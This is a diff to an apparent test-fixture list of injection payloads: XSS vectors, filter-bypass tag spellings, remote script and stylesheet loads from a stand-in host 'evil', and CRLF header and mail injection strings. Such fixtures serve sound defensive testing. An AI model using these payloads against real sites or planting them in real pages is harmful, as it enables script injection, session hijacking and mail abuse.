@@ -1,4 +1,7 @@
-"""Texts that try to become code: HTML in every spelling, template languages, SQL, line breaks."""
+"""Texts that try to become code: HTML in every spelling, template languages, SQL, line breaks.
+
+The foreign host is one word, `evil`: a full name would be refused as a web address.
+"""
 
 _HTML = (
     "<script>alert(1)</script>",
@@ -17,7 +20,7 @@ _HTML = (
     "<scr<script>ipt>alert(1)</script>",
     "<script\x0b>alert(1)</script>",
     "<script/x>alert(1)</script>",
-    "<script src=//evil.example/x.js></script>",
+    "<script src=//evil/x.js></script>",
     "<script type=importmap>{}</script>",
     "<img src=x onerror=alert(1)>",
     '"><img src=x onerror=alert(1)>',
@@ -64,13 +67,13 @@ _HTML = (
     "<audio src=x onerror=alert(1)>",
     "<details open ontoggle=alert(1)>",
     "<marquee onstart=alert(1)>",
-    "<base href=//evil.example/>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<link rel=import href=//evil.example/x.html>",
+    "<base href=//evil/>",
+    "<link rel=stylesheet href=//evil/x.css>",
+    "<link rel=import href=//evil/x.html>",
     "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
     "<meta http-equiv=Content-Security-Policy content=''>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<style>*{background:url(//evil.example)}</style>",
+    "<style>@import '//evil/x.css';</style>",
+    "<style>*{background:url(//evil)}</style>",
     "<div style=background:url(javascript:alert(1))>x</div>",
     "<div style=width:expression(alert(1))>x</div>",
     "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
@@ -128,7 +131,7 @@ _SQL = (
 _LINES = (
     "a\r\nSet-Cookie: sid=evil",
     "a\r\n\r\n<script>alert(1)</script>",
-    "a\nBcc: all@evil.example",
+    "a\nBcc: all@evil",
     "a\u2028b\u2029c",
     "a\x85b",
 )
